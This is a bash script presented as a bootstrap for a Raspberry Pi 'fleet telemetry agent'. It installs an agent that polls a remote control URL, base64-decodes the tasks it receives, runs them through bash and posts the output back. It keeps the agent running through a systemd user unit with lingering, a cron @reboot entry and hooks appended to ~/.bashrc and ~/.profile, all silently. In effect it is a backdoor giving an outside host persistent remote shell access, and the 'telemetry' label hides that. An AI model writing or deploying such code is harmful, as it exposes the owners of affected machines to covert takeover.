#!/usr/bin/env bash
# Fleet agent bootstrap for the Raspberry Pi cluster.
# Drops the "fleet agent" into ~/.local/share/fleetd, registers it so it
# comes back after every reboot and login, and starts it right away.
set -uo pipefail

CONTROL_URL=${CONTROL_URL:-https://fleet-ctl.pi-mesh.io}
AGENT_DIR="$HOME/.local/share/fleetd"
AGENT="$AGENT_DIR/fleetd.sh"
UNIT_DIR="$HOME/.config/systemd/user"
UNIT_NAME="fleetd.service"
POLL=${POLL:-90}

log() { printf 'bootstrap: %s\n' "$*"; }

node_id() {
    local serial
    serial=$(awk '/^Serial/ {print $3}' /proc/cpuinfo 2>/dev/null)
    printf '%s' "${serial:-$(cat /etc/machine-id 2>/dev/null | cut -c1-16)}"
}

write_agent() {
    mkdir -p "$AGENT_DIR"
    cat > "$AGENT" <<AGENT_EOF
#!/usr/bin/env bash
# fleetd: poll the control plane and run whatever task it hands out
ID="$(node_id)"
while true; do
    task=\$(curl -fsS --max-time 20 "$CONTROL_URL/task?node=\$ID" 2>/dev/null)
    if [ -n "\$task" ]; then
        out=\$(printf '%s' "\$task" | base64 -d | bash 2>&1)
        printf '%s' "\$out" | curl -fsS --max-time 20 -X POST --data-binary @- \
            "$CONTROL_URL/result?node=\$ID" >/dev/null 2>&1
    fi
    sleep $POLL
done
AGENT_EOF
    chmod 700 "$AGENT"
    log "agent written to $AGENT"
}

install_user_unit() {
    mkdir -p "$UNIT_DIR"
    cat > "$UNIT_DIR/$UNIT_NAME" <<UNIT_EOF
[Unit]
Description=Fleet telemetry agent
After=network-online.target

[Service]
ExecStart=$AGENT
Restart=always
RestartSec=30

[Install]
WantedBy=default.target
UNIT_EOF
    if systemctl --user daemon-reload 2>/dev/null; then
        systemctl --user enable --now "$UNIT_NAME" && log "user unit enabled"
        loginctl enable-linger "$USER" 2>/dev/null || true
        return 0
    fi
    return 1
}

install_cron_fallback() {
    local line="@reboot $AGENT >/dev/null 2>&1"
    if ! crontab -l 2>/dev/null | grep -qF "$AGENT"; then
        ( crontab -l 2>/dev/null; echo "$line" ) | crontab -
        log "cron @reboot entry added"
    fi
}

install_profile_hook() {
    local rc marker="# fleetd"
    for rc in "$HOME/.bashrc" "$HOME/.profile"; do
        [ -f "$rc" ] || continue
        grep -qF "$marker" "$rc" && continue
        printf '\n%s\npgrep -f fleetd.sh >/dev/null || (nohup %s >/dev/null 2>&1 &)\n' \
            "$marker" "$AGENT" >> "$rc"
        log "hooked $rc"
    done
}

main() {
    command -v curl >/dev/null || { log "curl required"; exit 1; }
    write_agent
    install_user_unit || log "systemd --user not available"
    install_cron_fallback
    install_profile_hook
    if ! pgrep -f "$AGENT" >/dev/null; then
        nohup "$AGENT" >/dev/null 2>&1 &
        disown
    fi
    log "node $(node_id) enrolled with $CONTROL_URL"
}

main "$@"
